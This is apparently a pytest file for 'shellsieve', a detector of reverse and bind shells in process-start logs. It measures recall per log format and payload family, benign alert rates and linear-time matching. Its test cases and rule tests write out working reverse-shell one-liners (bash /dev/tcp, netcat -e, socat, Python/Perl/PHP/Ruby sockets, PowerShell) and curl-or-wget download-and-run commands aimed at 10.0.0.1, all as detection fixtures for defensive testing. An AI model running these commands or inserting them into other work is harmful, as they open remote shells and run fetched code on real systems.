"""shellsieve's own ruleset (patterns/shellsieve/, issue 24) measured on the payload corpus.

The table: the shipped rules (patterns/, which hold the own ruleset) over every reverse and bind shell
of tests/corpus/payloads.py, rendered in each input format of process starts, give the recall per
format and per family; the benign corpus (tests/corpus/benign.py) and its look-alikes
(tests/corpus/lookalikes.py) give the own rules' alert rate. Then each rule's positive and negative
cases, and its patterns on 1 MiB adversarial lines (linear time).
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
import time
from collections import defaultdict
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conftest import PATTERNS, PHP_FSOCKOPEN, ROOT, rule_ids
from corpus import benign, lookalikes
from corpus.payloads import FAMILIES, execs, payloads
from format_samples import WRITERS, Exec
from test_envelopes import wrap
from test_formats import run_lines
from test_shellsieve_rules import PROCESS_FORMATS
from shellsieve.cli import build, main
from shellsieve.compile.ruleset import Ruleset

OWN = PATTERNS / "shellsieve"
OWN_IDS = {p.read_text().split("\nid: ", 1)[1].split("\n", 1)[0] for p in OWN.glob("*.yml")}
DEV_TCP = "d860371d-7e87-4ada-9ae2-5a1b352ead7a"
NETCAT = "e0208213-a02f-4e13-ae6a-e609b8c26b36"
SOCAT = "89a5b2d9-bb55-4884-94cd-80e2ac5a6f2e"
INTERP = "4f5d7ec0-54c3-4247-b03f-43373469e0d7"
RUNTIME = "53dd4630-4ac5-4826-9f76-9267cae59202"
STAGED = "8e14abff-6f78-4db3-a87e-a7a5b6e9b8b0"
RECALL_FORMAT, RECALL_FAMILY, BENIGN_RATE = 0.95, 0.8, 0.001
# a shipper envelope per kind of carried line: text, auditd records, Sysmon XML in syslog, JSON in a string
BENIGN_FORMATS = ("cmdline", "wazuh-cmdline", "sysmon-linux-json")  # no parent, or argv unquoted
ENVELOPED = [("vector-file", "cmdline"), ("fluentbit-tail", "auditd"), ("docker", "sysmon-syslog"), ("cri", "ecs")]


@pytest.fixture(scope="module")
def shipped() -> Ruleset:
    _, ruleset, diags = build([PATTERNS])
    assert not [d for d in diags if d.severity in ("error", "warning")], [d.render() for d in diags]
    return ruleset


@pytest.fixture(scope="module")
def own() -> Ruleset:
    _, ruleset, _ = build([OWN])
    return ruleset


def recall(ruleset: Ruleset, fmt: str, shape: str | None = None) -> tuple[float, dict[str, float], list[str]]:
    """Share of payloads with an alerted line in `fmt` (each line in a shipper's envelope `shape`, if given):
    overall, per family, and the missed command lines."""
    lines, owner = [], []
    cases = execs()
    for k, (_, ex) in enumerate(cases):
        out = WRITERS[fmt](ex) if shape is None else wrap(shape, WRITERS[fmt](ex))
        lines += out
        owner += [k] * len(out)
    docs, _ = run_lines(ruleset, lines)
    assert len(docs) == len(lines)
    hit = {owner[i] for i, d in enumerate(docs) if rule_ids(d)}
    fam: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for k, (pl, _) in enumerate(cases):
        fam[pl.family][0] += k in hit
        fam[pl.family][1] += 1
    missed = [ex.command_line for k, (_, ex) in enumerate(cases) if k not in hit]
    return len(hit) / len(cases), {f: a / b for f, (a, b) in fam.items()}, missed


def _as_exec(event: dict[str, Any]) -> Exec:
    """A benign ECS process start (tests/corpus/benign.py) as an `Exec`, to render it in other formats."""
    proc, parent = event["process"], event["process"].get("parent")
    up = None if parent is None else Exec(tuple(parent["args"]), parent["executable"], pid=4000, ppid=1,
                                           serial=1000, time=1777800000.0)
    return Exec(tuple(proc["args"]), proc["executable"], uid=int(event["user"]["id"]), user=event["user"]["name"],
                cwd=proc["working_directory"], parent=up)


class TestCorpus:
    def test_size_and_labels(self) -> None:
        """At least 300 distinct payloads, every family of the issue present, each with a named source."""
        pls = payloads()
        assert len(pls) >= 300 and len({p.args for p in pls if p.family != "webshell"}) >= 300
        assert {p.family for p in pls} == set(FAMILIES) | {"webshell"}
        assert all(p.source for p in pls)

    def test_lookalikes_are_many_and_distinct(self) -> None:
        cmds = [c for c, _, _ in lookalikes.commands()]
        assert len(cmds) >= 250 and len(set(cmds)) == len(cmds)


class TestTable:
    @pytest.mark.parametrize("fmt", PROCESS_FORMATS)
    def test_recall_per_format_and_family(self, shipped: Ruleset, fmt: str) -> None:
        overall, fams, missed = recall(shipped, fmt)
        print(f"\n{fmt:17s} recall {overall:.3f}  " + " ".join(f"{f}={v:.2f}" for f, v in sorted(fams.items())))
        assert overall >= RECALL_FORMAT, missed[:10]
        assert min(fams.values()) >= RECALL_FAMILY, {f: v for f, v in fams.items() if v < RECALL_FAMILY}

    @pytest.mark.parametrize("shape,fmt", ENVELOPED, ids=[f"{s}-{f}" for s, f in ENVELOPED])
    def test_recall_in_shipper_envelopes(self, shipped: Ruleset, shape: str, fmt: str) -> None:
        """The lines of a format carried in a shipper's envelope (tests/test_envelopes.py SHAPES) alert as bare."""
        overall, fams, missed = recall(shipped, fmt, shape)
        print(f"\n{shape + ' ' + fmt:28s} recall {overall:.3f}")
        assert overall >= RECALL_FORMAT, missed[:10]
        assert min(fams.values()) >= RECALL_FAMILY, {f: v for f, v in fams.items() if v < RECALL_FAMILY}

    def test_benign_rate_of_own_rules(self, shipped: Ruleset) -> None:
        """The own rules alert at most 0.1% of the benign corpus and its look-alikes, measured in the shipped
        set (the seed rules' own noise is docs/noise.md's)."""
        evs = benign.events() + lookalikes.events()
        docs, _ = run_lines(shipped, [msgspec.json.encode(e) for e in evs])
        noisy = [e["process"]["command_line"] for e, d in zip(evs, docs, strict=True) if set(rule_ids(d)) & OWN_IDS]
        rate = len(noisy) / len(evs)
        print(f"\nown rules: benign {len(noisy)}/{len(evs)} = {rate:.4%}")
        assert rate <= BENIGN_RATE, noisy

    @pytest.mark.parametrize("fmt", BENIGN_FORMATS)
    def test_benign_rate_of_own_rules_per_format(self, shipped: Ruleset, fmt: str) -> None:
        """The benign corpus and the look-alikes rendered as a command log, a Wazuh command document and Sysmon
        for Linux (argv unquoted): the own rules stay within 0.1% there too, with no parent (command logs) or
        with the quoting lost."""
        exs = [_as_exec(e) for e in benign.events() + lookalikes.events()]
        lines, owner = [], []
        for k, ex in enumerate(exs):
            out = WRITERS[fmt](ex)
            lines += out
            owner += [k] * len(out)
        docs, _ = run_lines(shipped, lines)
        noisy = sorted({exs[owner[i]].command_line for i, d in enumerate(docs) if set(rule_ids(d)) & OWN_IDS})
        print(f"\n{fmt:17s} own rules: benign {len(noisy)}/{len(exs)}")
        assert len(noisy) / len(exs) <= BENIGN_RATE, noisy

    def test_shellsieve_run_agrees(self) -> None:
        """`shellsieve run` (no --rules: the shipped rules) over the ECS payloads alerts as the in-process table."""
        with tempfile.TemporaryDirectory() as tmp:
            src = Path(tmp) / "in.ndjson"
            lines = [(k, line) for k, (_, ex) in enumerate(execs()) for line in WRITERS["ecs"](ex)]
            src.write_bytes(b"".join(line + b"\n" for _, line in lines))
            with src.open("rb") as stdin:
                proc = subprocess.run([sys.executable, "-m", "shellsieve", "run", "--stats-interval", "0"],
                                      stdin=stdin, capture_output=True, timeout=300, env=os.environ.copy(), cwd=ROOT)
        assert proc.returncode == 0, proc.stderr[-2000:]
        docs = [msgspec.json.decode(x) for x in proc.stdout.splitlines()]
        hit = {k for (k, _), d in zip(lines, docs, strict=True) if rule_ids(d)}
        print(f"\nshellsieve run, ecs: recall {len(hit) / len(execs()):.3f}")
        assert len(hit) / len(execs()) >= RECALL_FORMAT


# -- item 4: the own ruleset is the default; --seed-rules-only runs the seed rules alone ------------------

SEED_ONLY_SUBCOMMANDS = [["run"], ["serve", "--listen", "tcp://127.0.0.1:0"], ["check"], ["rules"], ["explain"]]


def _listed(capsys: pytest.CaptureFixture[str], *extra: str) -> set[str]:
    assert main(["rules", "--json", *extra]) == 0
    return {msgspec.json.decode(x)["id"] for x in capsys.readouterr().out.splitlines()}


class TestSeedRulesOnly:
    def test_the_flag_leaves_the_own_rules_out(self, capsys: pytest.CaptureFixture[str]) -> None:
        """`rules` with no --rules lists the seed rules and the own ruleset; --seed-rules-only the seed rules."""
        default, seeds = _listed(capsys), _listed(capsys, "--seed-rules-only")
        assert OWN_IDS <= default and not OWN_IDS & seeds
        assert seeds == default - OWN_IDS and PHP_FSOCKOPEN in seeds

    @pytest.mark.parametrize("argv", SEED_ONLY_SUBCOMMANDS, ids=[a[0] for a in SEED_ONLY_SUBCOMMANDS])
    def test_refused_with_rules(self, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
        """Every subcommand taking --rules takes the flag, and refuses it beside --rules (exit 2, naming both)."""
        with pytest.raises(SystemExit) as exc:
            main([*argv, "--seed-rules-only", "--rules", str(OWN)])
        assert exc.value.code == 2
        err = capsys.readouterr().err
        assert "--seed-rules-only" in err and "--rules" in err

    def test_run_with_the_flag_alerts_seed_payloads_only(self) -> None:
        """`shellsieve run --seed-rules-only`: the seed's PHP shell alerts, a /dev/tcp shell (own rules only)
        does not."""
        lines = (b"php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"sh <&3\");'\n"
                 b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
        argv = [sys.executable, "-m", "shellsieve", "run", "--seed-rules-only", "--stats-interval", "0"]
        proc = subprocess.run(argv, input=lines, capture_output=True, timeout=120, cwd=ROOT, check=False)
        assert proc.returncode == 0, proc.stderr[-2000:]
        php, dev_tcp = [rule_ids(msgspec.json.decode(x)) for x in proc.stdout.splitlines()]
        assert PHP_FSOCKOPEN in php and not set(php) & OWN_IDS and dev_tcp == []


# -- each rule: positive and negative command lines, as a command log holds them ----------------------------

CASES = [
    (DEV_TCP, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", True),
    (DEV_TCP, "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196", True),
    (DEV_TCP, "sh -i >& /dev/udp/10.0.0.1/53 0>&1", True),
    (DEV_TCP, "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", True),
    (DEV_TCP, "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db-01/5432'", False),
    (DEV_TCP, "echo > /dev/tcp/localhost/8080 && echo open", False),
    (NETCAT, "nc -e /bin/sh 10.0.0.1 4444", True),
    (NETCAT, "ncat -lvp 4444 -e /bin/bash", True),
    (NETCAT, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", True),
    (NETCAT, "busybox nc 10.0.0.1 4444 -e sh", True),
    (NETCAT, "nc -z -w 2 db-01 5432", False),
    (NETCAT, "ncat -l 8443 --keep-open -c 'cat /srv/status.txt'", False),
    (NETCAT, "mkfifo /tmp/q; tail -f /tmp/q | logger -t app", False),
    (SOCAT, "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh", True),
    (SOCAT, "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:bash,pty,stderr,setsid", True),
    (SOCAT, "socat TCP-LISTEN:8080,fork,reuseaddr TCP:localhost:80", False),
    (SOCAT, "socat EXEC:'mysqldump app' TCP:backup:9000", False),
    (INTERP, "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
             "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'", True),
    (INTERP, "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"h\")));"
             "open(STDIN,\">&S\");exec(\"sh -i\");'", True),
    (INTERP, "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"sh <&3 >&3 2>&3\");'", True),
    (INTERP, "ruby -rsocket -e 'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4444))'", True),
    (INTERP, "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"}'", True),
    (INTERP, "python3 -c 'import socket; print(socket.gethostname())'", False),
    (INTERP, "php -r '$f=@fsockopen(\"db\",3306,$e,$s,2); echo $f ? \"ok\" : \"down\";'", False),
    (INTERP, "awk -F: '{print $1}' /etc/passwd", False),
    (RUNTIME, "jrunscript -e 'var p=new java.lang.ProcessBuilder(\"sh\").start();var s=new java.net.Socket(\"h\",1);'",
     True),
    (RUNTIME, "pwsh -c '$c=New-Object System.Net.Sockets.TCPClient(\"10.0.0.1\",4444)'", True),
    (RUNTIME, "rcat connect -s /bin/sh 10.0.0.1 4444", True),
    (RUNTIME, "rcat listen 9999", False),
    (RUNTIME, "go run ./cmd/server", False),
    (STAGED, "echo YmFzaCAtaQo= | base64 -d | bash", True),
    (STAGED, "curl -s http://10.0.0.1:8000/x.sh | bash", True),
    (STAGED, "wget http://10.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", True),
    (STAGED, "curl -fsSL https://get.docker.com | sh", False),
    (STAGED, "curl -sfL https://get.k3s.io | sh -", False),
    (STAGED, "base64 -d /tmp/key.b64 > /etc/app/key.pem", False),
]


@pytest.mark.parametrize("rule,line,fires", CASES, ids=[f"{r[:8]}-{'pos' if f else 'neg'}-{i}"
                                                          for i, (r, _, f) in enumerate(CASES)])
def test_rule_case(own: Ruleset, rule: str, line: str, fires: bool) -> None:
    docs, _ = run_lines(own, [line.encode()])
    assert (rule in rule_ids(docs[0])) is fires, rule_ids(docs[0])


def test_every_rule_has_cases() -> None:
    pos = {r for r, _, f in CASES if f}
    neg = {r for r, _, f in CASES if not f}
    assert OWN_IDS - {"aab5cf48-9ab9-4592-89f9-81dcbb26c7c2", "b48bd732-a438-4680-b7b1-657dd92206df"} <= pos & neg


# -- item 5: linear time on adversarial lines ---------------------------------------------------------------

# Fragments that start many partial matches of the rules' patterns and never complete one.
ADVERSARIAL = ["/dev/tcp/", "nc -e ", "mkfifo | nc", "socat tcp: exec:", "socket.socket( ", "fsockopen(",
               "curl http:// | ", "printf '\\x41", "rcat connect ", "base64 -d | ", "sh -i 0>&"]


def _cpu(ruleset: Ruleset, line: bytes) -> float:
    start = time.process_time()
    run_lines(ruleset, [line], max_line_bytes=4 << 20)
    return time.process_time() - start


@pytest.mark.parametrize("fragment", ADVERSARIAL)
def test_linear_on_adversarial_lines(own: Ruleset, fragment: str) -> None:
    """The own rules on 256 KiB and 1 MiB of a repeated near-match: 4x the input costs < 8x the time."""
    def line(size: int) -> bytes:
        return (fragment * (size // len(fragment) + 1))[:size].encode()
    _cpu(own, line(1 << 14))  # warm
    small = min(_cpu(own, line(1 << 18)) for _ in range(2))
    big = min(_cpu(own, line(1 << 20)) for _ in range(2))
    assert big / max(small, 1e-3) < 8, (small, big)


def test_payload_after_a_mebibyte_is_still_seen(own: Ruleset) -> None:
    """The timed lines are matched whole: a payload after 1 MiB of near-matches alerts."""
    line = ("/dev/tcp/" * (1 << 17))[:1 << 20] + " bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    docs, _ = run_lines(own, [line.encode()], max_line_bytes=4 << 20)
    assert DEV_TCP in rule_ids(docs[0])
